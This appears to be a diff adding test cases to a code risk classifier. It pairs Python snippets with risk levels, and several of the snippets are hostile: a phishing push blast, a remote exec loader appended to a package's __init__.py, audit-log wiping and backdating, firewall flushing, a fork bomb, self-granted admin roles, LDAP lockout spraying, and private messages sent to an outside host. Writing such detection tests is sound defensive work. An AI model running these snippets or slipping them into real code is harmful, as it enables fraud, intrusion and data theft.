@@ -13048,6 +13048,138 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(["sudo", "uuu", "-b", "emmc_all", "boot.bin", "image.wic"], check=True)\n',
             M,
         ),
+        # holdout464-471: phishing pushes, builds from bare addresses published, own test keys, audit skipped, logs
+        # backdated, command tables, cameras, env-held fork loops, code in strings, file-server subclasses, ServiceNow
+        # roles, LDAP lockouts, app trees, private messages, admin groups
+        (
+            'from firebase_admin import messaging\n'
+            'note = messaging.Notification(title="Your account is suspended", body="Verify your card at https'
+            '://verify.example.net/x")\n'
+            'for i in range(0, len(tokens), 500):\n'
+            '    messaging.send_each_for_multicast(messaging.MulticastMessage(tokens=tokens[i:i + 500], notif'
+            'ication=note))\n',
+            H,
+        ),
+        (
+            'from firebase_admin import messaging\n'
+            'note = messaging.Notification(title="Order shipped", body="Track it at https://shop.example.com/'
+            't")\n'
+            'for i in range(0, len(tokens), 500):\n'
+            '    messaging.send_each_for_multicast(messaging.MulticastMessage(tokens=tokens[i:i + 500], notif'
+            'ication=note))\n',
+            S,
+        ),
+        (
+            'import requests, subprocess\n'
+            'open("dist/app-1.0.tar.gz", "wb").write(requests.get("http://198.51.100.30/b/app-1.0.tar.gz").co'
+            'ntent)\n'
+            'subprocess.run(["twine", "upload", "dist/*"], check=True)\n',
+            H,
+        ),
+        (
+            'import os, tempfile\n'
+            'from app.keys import load_key\n'
+            'with tempfile.TemporaryDirectory() as d:\n'
+            '    p = os.path.join(d, "test_key.pem")\n'
+            '    with open(p, "wb") as f:\n'
+            '        f.write(b"-----BEGIN PRIVATE KEY-----")\n'
+            '    load_key(p)\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://ledger.example.com/api/transfers", json={"from": "A", "to": "B", "amount"'
+            ': 900, "skip_audit": True})\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'with open("/var/log/app/audit.log", "w") as f:\n'
+            '    f.write("")\n'
+            'os.utime("/var/log/app/audit.log", (1700000000, 1700000000))\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'ops = {"a": "iptables -F", "b": "iptables -P INPUT ACCEPT"}\n'
+            'for k in sorted(ops):\n'
+            '    os.system(ops[k])\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'ops = {"a": "make build", "b": "make test"}\n'
+            'for k in sorted(ops):\n'
+            '    os.system(ops[k])\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for ip in cameras:\n'
+            '    requests.get(f"http://{ip}/cgi-bin/configManager.cgi?action=setConfig&RecordMode[0].Mode=2",'
+            ' auth=auth)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'while os.getenv("RUN"):\n'
+            '    os.fork()\n',
+            C,
+        ),
+        (
+            'payload = b"import urllib.request as u; exec(u.urlopen(\'https://x.example.net/s\').read())"\n'
+            'open("pkg/__init__.py", "ab").write(payload)\n',
+            C,
+        ),
+        (
+            'import functools, os\n'
+            'from http.server import HTTPServer, SimpleHTTPRequestHandler\n'
+            'class H(SimpleHTTPRequestHandler):\n'
+            '    pass\n'
+            'HTTPServer(("0.0.0.0", 8000), functools.partial(H, directory=os.path.expanduser("~"))).serve_for'
+            'ever()\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for role in ("admin", "itil"):\n'
+            '    s.post(f"{inst}/api/now/table/sys_user_has_role", json={"user": me, "role": role})\n',
+            H,
+        ),
+        (
+            'from ldap3 import Connection\n'
+            'for u in users:\n'
+            '    for _ in range(10):\n'
+            '        Connection(srv, f"CORP\\\\{u}", "wrong").bind()\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'for f in Path("/var/www/shop/uploads/incoming").iterdir():\n'
+            '    shutil.move(str(f), "/var/www/shop/uploads/quarantine/" + f.name)\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'for d in Path("/var/lib/app/tmp/chunks").iterdir():\n'
+            '    if d.is_dir() and not any(d.iterdir()):\n'
+            '        d.rmdir()\n',
+            L,
+        ),
+        (
+            'import psycopg2, requests\n'
+            'cur = psycopg2.connect("dbname=forum").cursor()\n'
+            'cur.execute("SELECT u.email, p.raw FROM posts p JOIN topics t ON t.id = p.topic_id JOIN users u '
+            'ON u.id = p.user_id WHERE t.archetype = \'private_message\'")\n'
+            'requests.post("https://collect.example.net/in", json=cur.fetchall())\n',
+            C,
+        ),
+        (
+            'c.execute("INSERT INTO app_user_roles (user_id, role_id) SELECT %s, id FROM roles WHERE name=\'ad'
+            'ministrators\'", (uid,))\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
